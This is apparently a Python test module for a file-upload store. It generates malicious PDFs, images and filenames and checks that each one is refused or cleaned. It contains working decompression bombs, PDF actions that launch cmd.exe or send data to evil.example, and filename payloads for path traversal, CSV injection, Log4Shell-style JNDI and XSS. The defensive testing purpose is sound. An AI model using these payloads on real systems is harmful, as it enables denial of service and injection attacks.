"""Hostile files, generated: decompression bombs, polyglots, documents with scripts, misleading names. None is stored in git.

`faults_of` gives each file to a store and reports the faults. Run as a program, it limits memory and processor time for each file,
so that one that takes all resources ends the program and not the tests.
"""

from __future__ import annotations

import base64
import io
import json
import random
import struct
import sys
import unicodedata
import zipfile
import zlib
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Any, Final

from PIL import Image
from pypdf import PdfReader

from engine.storage.files import images as picture_content
from engine.storage.files.attachments import LARGEST_PICTURE, LONGEST_NAME, AttachmentStore
from engine.storage.files.encryption import FileKeys
from engine.storage.files.inspection import Rejected
from tests.effort import tries
from tests.faults.limits import each_within, limit_memory

ALL: Final = ("pdf", "jpg", "png")
LARGEST: Final = 5_000_000
MEMORY: Final = 600_000_000  # bytes that judging may add to the program
PROCESSOR: Final = 2.0  # seconds for one file
CANARY: Final = b"CANARI-DU-LIEU"  # what no kept picture may still hold
TRACES: Final = (CANARY, b"Exif", b"<script", b"PK\x03\x04", b"%PDF", b"http://ns.adobe.com", b"GPS", b"8BIM")
KEPT: Final = "kept"
EITHER: Final = "kept file_type file_size picture_size file_broken file_unreadable file_locked file_active"


@dataclass(frozen=True)
class Hostile:
    """One file, what it is called by whoever sends it, and what must come of it: a code of refusal, or `KEPT` clean."""

    case: str
    name: str
    data: bytes
    must: str


# -- pictures ----------------------------------------------------------------------------------------------------------


def chunk(name: bytes, body: bytes) -> bytes:
    return len(body).to_bytes(4, "big") + name + body + zlib.crc32(name + body).to_bytes(4, "big")


def a_png(width: int, height: int, notes: bytes = b"", pixels: bytes | None = None) -> bytes:
    """Black, of that size or saying so."""
    head = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x08\x00\x00\x00\x00"
    packed = zlib.compress(b"\0" * ((width + 1) * height)) if pixels is None else pixels
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + notes + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def a_jpeg(width: int = 60, height: int = 40, **options: Any) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (10, 200, 30)).save(out, "JPEG", **options)
    return out.getvalue()


@cache
def zeros(size: int = 200_000_000) -> bytes:
    """A little that unfolds to much."""
    folding = zlib.compressobj(9)
    million = b"\0" * 1_000_000
    return b"".join(folding.compress(million) for _ in range(size // len(million))) + folding.flush()


def many_scans(times: int) -> bytes:
    """A photo of 24 million pixels, all gone over so many times more for a few bytes each."""
    data = a_jpeg(4899, 4898, progressive=True, quality=50)
    starts = [at for at in range(len(data) - 1) if data[at] == 0xFF and data[at + 1] in (0xDA, 0xC4, 0xD9)]
    second = [at for at in starts if data[at + 1] == 0xDA][1]
    end = next(at for at in starts if at > second)
    return data[:-2] + data[second:end] * times + data[-2:]


def with_notes() -> bytes:
    """A photo that says where it was taken, in each of the ways there are."""
    exif = Image.Exif()
    exif[0x013B] = CANARY.decode()
    place = exif.get_ifd(0x8825)
    place[1], place[2] = "N", (6.0, 7.0, 8.0)
    plain = a_jpeg(exif=exif, comment=CANARY)
    xmp = b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>" + CANARY + b"</x:xmpmeta>"
    iptc = b"Photoshop 3.0\x008BIM\x04\x04\0\0\0\0\0\x0e" + CANARY
    notes = b"".join(
        b"\xff" + mark + (len(body) + 2).to_bytes(2, "big") + body for mark, body in ((b"\xe1", xmp), (b"\xed", iptc))
    )
    return plain[:2] + notes + plain[2:]


def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as written:
        written.writestr("../../evil.html", "<script>alert(1)</script>")
        written.writestr("zeros", b"\0" * 1_000_000)
    return out.getvalue()


def pictures() -> Iterator[Hostile]:
    for side in (8000, 14000, 20000, 2**31 - 1):
        yield Hostile(f"claims {side} pixels a side", "a.png", a_png(side, side, pixels=b"x"), "picture_size")
    yield Hostile("one pixel wide, 24 million high", "a.png", a_png(1, 24_000_000), "picture_size")
    yield Hostile("24 million wide, one pixel high", "a.png", a_png(24_000_000, 1), "picture_size")
    yield Hostile("as large as may be", "a.png", a_png(4899, 4898), KEPT)
    yield Hostile("a large photo", "a.jpg", a_jpeg(4899, 4898, progressive=True), KEPT)
    yield Hostile("gone over thousands of times", "a.jpg", many_scans(20_000), "file_broken")
    yield Hostile("profile that unfolds", "a.png", a_png(9, 9, chunk(b"iCCP", b"x\0\0" + zeros())), "file_broken")
    yield Hostile("text that unfolds", "a.png", a_png(9, 9, chunk(b"zTXt", b"x\0\0" + zeros())), "file_broken")
    yield Hostile(
        "other text that unfolds", "a.png", a_png(9, 9, chunk(b"iTXt", b"x\0\1\0\0\0" + zeros())), "file_broken"
    )
    yield Hostile("more pixels than said", "a.png", a_png(9, 9, pixels=zeros()), KEPT)
    yield Hostile("fewer pixels than said", "a.png", a_png(900, 900, pixels=zlib.compress(b"\0" * 90)), "file_broken")
    yield Hostile("says where", "a.jpg", with_notes(), KEPT)
    notes = chunk(b"tEXt", b"Comment\0" + CANARY) + chunk(b"eXIf", b"MM\0*\0\0\0\x08\0\0" + CANARY)
    yield Hostile("a drawing that says where", "a.png", a_png(9, 9, notes), KEPT)
    for what, tail in (
        ("an archive", archive()), ("a page", b"<html><script>alert(1)</script></html>"), ("a paper", a_pdf()),
    ):  # fmt: skip
        yield Hostile(f"a photo, then {what}", "a.jpg", a_jpeg() + tail, KEPT)
        yield Hostile(f"a drawing, then {what}", "a.png", a_png(9, 9) + tail, KEPT)
    for whole, name in ((a_jpeg(), "a.jpg"), (a_png(900, 900), "a.png")):
        for part in range(1, 10):
            yield Hostile(f"cut at {part} of 10", name, whole[: len(whole) * part // 10], "file_broken file_type")


# -- papers ------------------------------------------------------------------------------------------------------------

CATALOGUE: Final = b"<</Type/Catalog/Pages 2 0 R>>"
BASE: Final = (CATALOGUE, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>")


def stream(data: bytes, more: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (more, len(data), data)


def a_pdf(*more: bytes, catalogue: bytes = CATALOGUE, trailer: bytes = b"") -> bytes:
    """One blank page, and objects beside it."""
    body, places = b"%PDF-1.7\n", []
    for number, item in enumerate((catalogue, *BASE[1:], *more), 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, item)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return b"%sxref\n0 %d\n0000000000 65535 f \n%strailer <</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        body, len(places) + 1, table, len(places) + 1, trailer, len(body),
    )  # fmt: skip


def folded(payload: bytes, count: int, first: int) -> bytes:
    """A paper whose other objects lie folded inside one stream."""
    items = (*BASE, stream(payload, b"/Type/ObjStm/N %d/First %d/Filter/FlateDecode" % (count, first)))
    body, rows = b"%PDF-1.7\n", b"\0" * 5 + b"\xff\xff"
    for number, item in enumerate(items, 1):
        rows += b"\1" + len(body).to_bytes(4, "big") + b"\0\0"
        body += b"%d 0 obj\n%s\nendobj\n" % (number, item)
    rows += b"".join(b"\2" + (4).to_bytes(4, "big") + n.to_bytes(2, "big") for n in range(count))
    index = b"/Type/XRef/Size %d/W[1 4 2]/Root 1 0 R/Filter/FlateDecode" % (5 + count)
    table = stream(zlib.compress(rows), index)
    return body + b"%d 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (5 + count, table, len(body))


def lzw(rounds: int) -> bytes:
    """Zeros as LZW writes them: 7 MB a round, each in 6 KB."""
    bits: list[str] = []
    for turn in range(rounds):
        bits.append(f"{256:012b}" if turn else f"{256:09b}")
        for size in range(257, 4095):  # the table has so many entries once this code is read
            width = 12 if size >= 2047 else 11 if size >= 1023 else 10 if size >= 511 else 9
            bits.append(f"{0 if size == 257 else size:0{width}b}")
    written = "".join(bits)
    written += "0" * (-len(written) % 8)
    return int(written, 2).to_bytes(len(written) // 8, "big")


def clears(size: int) -> bytes:
    """So many bytes of LZW that say « begin again » with each code, and nothing else."""
    return int(f"{256:09b}" * 8, 2).to_bytes(9, "big") * (size // 9)


def indexes(count: int, names: bytes, data: bytes) -> bytes:
    """A paper with so many indexes, each naming the one before."""
    body = b"%PDF-1.7\n" + b"".join(b"%d 0 obj\n%s\nendobj\n" % one for one in enumerate(BASE, 1))
    before = b""
    for number in range(9, 9 + count):
        index = b"/Type/XRef/Size 9/W[1 2 1]/Root 1 0 R/Filter" + names + before
        before = b"/Prev %d" % len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, stream(data, index))
    return body + b"startxref\n%s\n%%%%EOF\n" % before.removeprefix(b"/Prev ")


def slow_papers() -> Iterator[Hostile]:
    """Papers that decode to little, or to nothing, and take minutes or hours to say so."""
    two, wide = b"[/FlateDecode/LZWDecode]", b"/Filter[/FlateDecode/ASCII85Decode]"
    yield Hostile(
        "slow: codes of nothing",
        "a.pdf",
        a_pdf(stream(zlib.compress(clears(100_000_000), 9), b"/Filter" + two)),
        "file_unreadable",
    )
    yield Hostile(
        "slow: base 85", "a.pdf", a_pdf(stream(zlib.compress(b"z" * 25_000_000 + b"~>", 9), wide)), "file_unreadable"
    )
    yield Hostile(
        "slow: an index of nothing", "a.pdf", indexes(1, two, zlib.compress(clears(15_000_000), 9)), "file_unreadable"
    )
    yield Hostile(
        "slow: many indexes of little", "a.pdf", indexes(40, two, zlib.compress(clears(990_000), 9)), "file_unreadable"
    )
    escapes = zlib.compress(b"9 0 (" + b"\\101" * 3_700_000 + b")", 9)
    folds = stream(escapes, b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode")
    yield Hostile("slow: a string of escapes", "a.pdf", a_pdf(folds), "file_unreadable")
    notes = folded(zlib.compress(b"9 0 [" + b"%\n" * 7_500_000 + b"]"), 1, 4)
    yield Hostile("slow: comments", "a.pdf", notes, "file_unreadable")


def slow_pictures() -> Iterator[Hostile]:
    """Pictures of a few pixels and millions of parts or numbers."""
    photo, drawing = a_jpeg(), a_png(8, 8)
    head = 8 + 25  # what a PNG begins with, and its first chunk
    note = (0).to_bytes(4, "big") + b"aaAa" + zlib.crc32(b"aaAa").to_bytes(4, "big")
    yield Hostile("slow: markers", "a.jpg", photo[:2] + b"\xff\xe5\0\2" * 2_500_000 + photo[2:], "file_broken")
    yield Hostile("slow: a long filling", "a.jpg", photo[:2] + b"\xff" * 10_000_000 + photo[2:], "file_broken")
    yield Hostile("slow: chunks", "a.png", drawing[:head] + note * 800_000 + drawing[head:], "file_broken")
    for tag in (0x011A, 60_000):  # a JPEG reads the first one with its header
        turned = many_numbers(tag)
        yield Hostile(f"slow: numbers {tag}", "a.png", drawing[:head] + chunk(b"eXIf", turned) + drawing[head:], KEPT)
        pieces = [b"Exif\0\0" + turned[at : at + 65_000] for at in range(0, len(turned), 65_000)]
        noted = b"".join(b"\xff\xe1" + (len(one) + 2).to_bytes(2, "big") + one for one in pieces)
        yield Hostile(f"slow: numbers {tag} of a photo", "a.jpg", photo[:2] + noted + photo[20:], "file_broken")


def many_numbers(tag: int, count: int = 1_400_000) -> bytes:
    """EXIF data of a photo to turn, with so many fractions under one tag."""
    entries = ((0x0112, 3, 1, 6), (0x0128, 3, 1, 2), (tag, 5, count, 50))
    rows = b"".join(struct.pack("<HHLL", *one) for one in sorted(entries))
    return b"II*\0" + struct.pack("<LH", 8, 3) + rows + bytes(4) + struct.pack("<LL", 65_537, 65_539) * count


def bombs() -> Iterator[Hostile]:
    """Papers that are small until their streams are decoded."""
    twice, runs = zlib.compress(zeros(), 9), b"\x81\0" * 1_500_000
    ways = {
        "two filters": (b"[/FlateDecode/FlateDecode]", twice),
        "three filters": (b"[/FlateDecode/FlateDecode/FlateDecode]", zlib.compress(twice, 9)),
        "hexadecimal first": (b"[/ASCIIHexDecode/FlateDecode]", zeros().hex().encode() + b">"),
        "base 85 first": (b"[/ASCII85Decode/Fl]", base64.a85encode(zeros()) + b"~>"),
        "LZW": (b"/LZWDecode", lzw(20)),
        "folded LZW": (b"[/FlateDecode/LZW]", zlib.compress(lzw(20), 9)),
        "runs": (b"/RunLengthDecode", runs),
        "folded runs": (b"[/FlateDecode/RunLengthDecode]", zlib.compress(runs, 9)),
        "what grows, then shrinks": (b"[/FlateDecode/ASCIIHexDecode]", zlib.compress(b"0" * 200_000_000)),
        "a filter by reference": (b"5 0 R", zeros()),
        "filters by reference": (b"[5 0 R 5 0 R]", twice),
        "an escaped filter": (b"/Fl#61teDecode", zeros()),
        "more filters than anybody writes": (b"[" + b"/ASCIIHexDecode" * 5 + b"]", b"00>"),
        "a filter after a picture": (b"[/DCTDecode/FlateDecode]", zeros()),
        "a filter that nobody knows": (b"/Unknown", b"x"),
    }
    for what, (names, data) in ways.items():
        paper = a_pdf(stream(data, b"/Filter " + names), b"/FlateDecode")
        yield Hostile(f"bomb: {what}", "a.pdf", paper, "file_unreadable")
    yield Hostile("bomb: an escaped key", "a.pdf", a_pdf(stream(zeros(), b"/Fil#74er/FlateDecode")), "file_unreadable")
    small = [stream(zeros(20_000_000), b"/Filter/FlateDecode") for _ in range(7)]
    yield Hostile("bomb: many that are small alone", "a.pdf", a_pdf(*small), "file_unreadable")
    for names, data in ((b"[/FlateDecode/FlateDecode]", twice), (b"/LZWDecode", lzw(20)), (b"/RunLengthDecode", runs)):
        index = b"/Type/XRef/Size 9/W[1 2 1]/Root 1 0 R/Filter" + names
        body = b"%PDF-1.7\n" + b"".join(b"%d 0 obj\n%s\nendobj\n" % one for one in enumerate(BASE, 1))
        table = b"%s9 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (body, stream(data, index), len(body))
        yield Hostile(f"bomb: an index by {names.decode()}", "a.pdf", table, EITHER)
        held = stream(data, b"/Type/ObjStm/N 3/First 20/Filter" + names)
        yield Hostile(
            f"bomb: objects folded by {names.decode()}",
            "a.pdf",
            a_pdf(*[held] * (1 if len(held) > 1_000_000 else 4)),
            "file_unreadable",
        )
    wide = b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2000000000/Colors 32/BitsPerComponent 16>>"
    rows = stream(zlib.compress(b"\0" * 1_000_000), b"/Type/ObjStm/N 3/First 20" + wide)
    yield Hostile("bomb: rows wider than memory", "a.pdf", a_pdf(rows), EITHER)
    yield Hostile("bomb: rows wider than memory, folded", "a.pdf", folded(zlib.compress(b"\0" * 90_000), 3, 20), EITHER)


def disguises() -> Iterator[Hostile]:
    """Papers that act by names written otherwise, or by bytes that lie elsewhere."""
    script = b"<</S/J#61v#61Script/J#53(x)>>"
    yield Hostile(
        "an escaped script that no table leads to", "a.pdf", a_pdf() + b"9 0 obj" + script + b"endobj", "file_active"
    )
    hidden = zlib.compress(b"9 0 <</S/#4aavaScript>>" + b" " * 50)
    folds = stream(hidden, b"/Type/Obj#53tm/N 1/First 4/Filter/FlateDecode")
    yield Hostile("a folded script that no table leads to", "a.pdf", a_pdf(folds), "file_active")
    yield Hostile("a kind by reference", "a.pdf", a_pdf(b"<</S 5 0 R/F(x)>>", b"/L#61unch"), "file_active")
    yield Hostile("a kind by reference, plainly", "a.pdf", a_pdf(b"<</S 5 0 R/D[0/Fit]>>", b"/GoToE"), "file_active")
    for key in (b"/F(\\\\\\\\evil\\\\share)", b"/#46(x)", b"/F 1 0 R", b"/FFilter/FlateDecode", b"/FDecode#50arms<<>>"):
        yield Hostile(f"bytes elsewhere: {key!r}", "a.pdf", a_pdf(stream(b"x", key)), "file_active")
    fine = CATALOGUE[:-2] + b"/OpenAction 4 0 R>>"
    yield Hostile("opens at a page, by reference", "a.pdf", a_pdf(b"<</S/GoTo/D[3 0 R/Fit]>>", catalogue=fine), KEPT)
    yield Hostile("text that is folded twice", "a.pdf", a_pdf(stream(
        zlib.compress(zlib.compress(b"BT ET")), b"/Filter[/FlateDecode/FlateDecode]")), KEPT)  # fmt: skip


def papers() -> Iterator[Hostile]:
    yield from disguises()
    acts = {
        "runs a script": b"<</S/JavaScript/JS(app.alert\\(1\\))>>",
        "starts a program": b"<</S/Launch/F(cmd.exe)>>",
        "sends a form": b"<</S/SubmitForm/F(http://evil.example)>>",
        "takes data in": b"<</S/ImportData/F(x)>>",
        "opens a file of another machine": b"<</S/GoToR/F(\\\\\\\\evil\\\\share)/D[0/Fit]>>",
        "opens a file inside": b"<</S/GoToE/D[0/Fit]>>",
        "escapes its name": b"<</S/J#61vaScript/J#53(x)>>",
    }
    for what, act in acts.items():
        opening = CATALOGUE[:-2] + b"/OpenAction 4 0 R>>"
        yield Hostile(f"{what} when opened", "a.pdf", a_pdf(act, catalogue=opening), "file_active")
        yield Hostile(f"{what} when touched", "a.pdf", a_pdf(b"<</Type/Annot/Subtype/Link/A %s>>" % act), "file_active")
        yield Hostile(f"{what}, folded", "a.pdf", folded(zlib.compress(b"5 0 " + act), 1, 4), "file_active")
    yield Hostile("acts on events", "a.pdf", a_pdf(catalogue=CATALOGUE[:-2] + b"/AA<</WC<<>>>>>>"), "file_active")
    yield Hostile("holds a file", "a.pdf", a_pdf(b"<</Type/Filespec/EF<</F 5 0 R>>>>", stream(b"MZ")), "file_active")
    yield Hostile("holds a film", "a.pdf", a_pdf(b"<</Type/Annot/Subtype/RichMedia>>"), "file_active")
    yield Hostile("a form of its own", "a.pdf", a_pdf(b"<</XFA[(x)4 0 R]>>"), "file_active")
    yield Hostile("locked", "a.pdf", a_pdf(trailer=b"/Encrypt<</Filter/Standard/V 1>>"), "file_locked file_unreadable")
    flat = b"/Filter/FlateDecode"
    yield Hostile("200 MB in 190 KB", "a.pdf", a_pdf(stream(zeros(), flat)), "file_unreadable")
    yield Hostile("folded objects that unfold", "a.pdf", folded(zeros(), 3, 20), "file_unreadable")
    yield Hostile("endless depth", "a.pdf", a_pdf(b"[" * 100_000), "file_unreadable")
    yield Hostile(
        "a tree that bites its tail",
        "a.pdf",
        a_pdf(catalogue=b"<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]>>"),
        "file_unreadable",
    )
    yield Hostile(
        "pages without end", "a.pdf", a_pdf().replace(b"[3 0 R]", b"[" + b"3 0 R " * 9999 + b"]"), "file_unreadable"
    )
    yield Hostile(
        "no index, a hundred thousand objects",
        "a.pdf",
        b"%PDF-1.7\n" + b"1 0 obj<<>>endobj\n" * 100_000,
        "file_unreadable",
    )
    yield Hostile("in name only", "a.pdf", b"%PDF-1.7\n" + b"\0" * 500, "file_unreadable")
    for part in range(1, 10):
        whole = a_pdf(b"<</S/Launch>>")
        yield Hostile(
            f"cut at {part} of 10", "a.pdf", whole[: len(whole) * part // 10], "file_unreadable file_type file_active"
        )


# -- what is neither, and names ----------------------------------------------------------------------------------------

NAMES: Final = (
    "../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\boot.ini", "a\r\nSet-Cookie: x=1.jpg", "a\0.exe",
    "photo\u202egpj.exe", "a\u200b\u2066b.jpg", '"><img src=x onerror=alert(1)>.jpg', "x" * 300, "....", ".htaccess", "CON", "",
    "a.jpg.exe", "a.php%00.jpg", "{{7*7}}.jpg", "=cmd|'/c calc'!A1.jpg", "\ud800.jpg", "${jndi:ldap://x}.jpg", "a;b|c`d`.jpg",
)  # fmt: skip


def others() -> Iterator[Hostile]:
    svg = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
    wrong = {
        "a drawing of commands": ("a.png", svg), "a page": ("a.jpg", b"<html><script>alert(1)</script>"), "a program": ("a.pdf", b"MZ\x90\0"),
        "an archive": ("a.pdf", archive()), "a GIF that says PDF": ("a.pdf", b"GIF89a%PDF-1.4"), "a shell": ("a.jpg", b"#!/bin/sh\n"),
        "late PDF": ("a.pdf", b"\n\n" + a_pdf()), "bytes of nothing": ("a.jpg", b"\0" * 5000),
    }  # fmt: skip
    for case, (name, data) in wrong.items():
        yield Hostile(case, name, data, "file_type")
    yield Hostile("nothing", "a.jpg", b"", "file_empty")
    yield Hostile("too heavy", "a.jpg", b"\xff\xd8\xff" + b"\0" * LARGEST_PICTURE, "picture_size")
    yield Hostile("a document too heavy", "a.pdf", b"%PDF-1.7" + b"\0" * LARGEST, "file_size")
    for name in NAMES:
        yield Hostile(f"called {name[:30]!r}", name, a_jpeg(), KEPT)


def mutants(count: int) -> Iterator[Hostile]:
    """Sound files of which chance changed a few bytes: kept clean, or refused for whatever reason there is."""
    chance = random.Random(count)
    sound = (("a.jpg", with_notes()), ("a.png", a_png(60, 40)), ("a.pdf", a_pdf(b"<</S/GoTo/D[0/Fit]>>")))
    for number in range(count):
        name, whole = sound[number % len(sound)]
        data = bytearray(whole)
        for _ in range(chance.randint(1, 8)):
            data[chance.randrange(len(data))] = chance.randrange(256)
        yield Hostile(f"mutant {number}", name, bytes(data), EITHER)


def corpus() -> list[Hostile]:
    return [*pictures(), *papers(), *bombs(), *others(), *mutants(tries(100))]


# -- judging -----------------------------------------------------------------------------------------------------------


def faults_of(store: AttachmentStore, files: Iterable[Hostile]) -> list[str]:
    """What was kept that must not be, kept unclean, refused otherwise, or left behind."""
    return [f"{file.case}: {fault}" for file in files for fault in _faults_of_one(store, file)]


def _faults_of_one(store: AttachmentStore, file: Hostile) -> Iterator[str]:
    before = on_disk(store.blobs.folder)
    try:
        kept = store.keep(file.data, file.name, ALL, LARGEST)
    except Rejected as refused:
        if refused.code not in file.must.split():
            yield f"{refused.code} instead of {file.must}"
        if on_disk(store.blobs.folder) != before:
            yield "refused, and on the disk"
        return
    if KEPT not in file.must.split():
        yield f"kept instead of {file.must}"
        return
    data = store.read(kept.sha256)
    yield from (f"still holds {trace!r}" for trace in TRACES if kept.kind != "pdf" and trace in data)
    if kept.kind == "pdf":
        PdfReader(io.BytesIO(data))
    else:
        with Image.open(io.BytesIO(data)) as picture:
            if picture.getexif() or max(picture.size) > picture_content.LONGEST_SIDE:
                yield "not made anew"
    yield from _of_name(kept.name, kept.kind)


def _of_name(shown: str, kind: str) -> Iterator[str]:
    odd = [sign for sign in shown if sign in "/\\" or (unicodedata.category(sign)[0] in "CZ" and sign != " ")]
    if odd or len(shown) > LONGEST_NAME or not shown.endswith(f".{kind}") or shown.startswith("."):
        yield f"is shown as {shown!r}"


def on_disk(folder: Path) -> set[str]:
    return {str(path.relative_to(folder)) for path in folder.rglob("*") if path.is_file()} if folder.exists() else set()


def main(folder: str, case: str = "", *lifted: str) -> None:
    """`case`: only the files of that name; `lifted`: limits of the judge that do not hold."""
    files = [one for one in corpus() if case in one.case]
    for name in lifted:
        setattr(picture_content, name, 10**12)
    store = AttachmentStore(Path(folder), FileKeys.generate())
    limit_memory(MEMORY)
    timed = each_within(PROCESSOR, ((file.case, file) for file in files))
    print(json.dumps({"faults": faults_of(store, timed), "files": len(files)}), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
